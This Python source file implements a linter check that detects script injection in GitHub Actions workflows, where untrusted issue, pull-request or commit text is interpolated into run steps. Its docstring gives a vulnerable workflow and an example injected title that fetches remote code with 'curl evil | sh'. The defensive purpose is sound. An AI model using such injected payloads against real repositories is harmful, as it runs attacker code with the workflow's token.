"""What strangers write never becomes part of a script.

The expression is filled in before the shell reads the line: a title like `"; curl evil | sh; "` runs with the
workflow's token.

Wrong:
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-24.04
        steps:
          - run: echo "New issue ${{ github.event.issue.title }}"
Right:
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-24.04
        steps:
          - run: echo "New issue $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
Source: GitHub Security Lab, "Untrusted input"; zizmor template-injection; actionlint
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from workbench.checks.config._files import workflow
from workbench.core.findings import Finding, Severity
from workbench.core.kinds import Check, Subject
from workbench.core.text import one_line
from workbench.engines.config.actions.expressions import expressions
from workbench.engines.config.actions.model import Workflow
from workbench.engines.config.values import text
from workbench.engines.positions import Path

_UNTRUSTED = re.compile(
    r"github\.(?:head_ref"
    r"|event\.(?:issue|discussion)\.(?:title|body)"
    r"|event\.(?:comment|review|review_comment)\.body"
    r"|event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|event\.pages\.[^.]+\.page_name"
    r"|event\.(?:head_commit|commits\.[^.]+|workflow_run\.head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|event\.workflow_run\.(?:head_branch|display_title|head_repository\.description|pull_requests\.[^.]+\.head\.ref)"
    r"|event\.client_payload(?:\..*)?)\Z",
    re.IGNORECASE,
)
_SCRIPT = ("actions/github-script",)


def run(subject: Subject) -> Iterator[Finding]:
    flow = workflow(subject)
    for _, step in flow.steps() if flow is not None else ():
        if flow is None:
            return
        yield from _found(flow, step.run, (*step.at, "run"))
        if step.action is not None and step.action.repository in _SCRIPT:
            yield from _found(flow, text(step.given.get("script")), (*step.at, "with", "script"))


def _found(flow: Workflow, script: str, at: Path) -> Iterator[Finding]:
    for expression in expressions(script):
        for path in expression.paths:
            name = ".".join(path)
            if _UNTRUSTED.match(name):
                message = f"Whoever writes {one_line(name, 60)} writes part of this script."
                hint = "Give it by env, and use the variable in quotes."
                yield CHECK.finding(message, flow.line_in(at, expression.offset), hint)


CHECK = Check("config/actions-script-injection", frozenset({"config"}), Severity.ERROR, run)
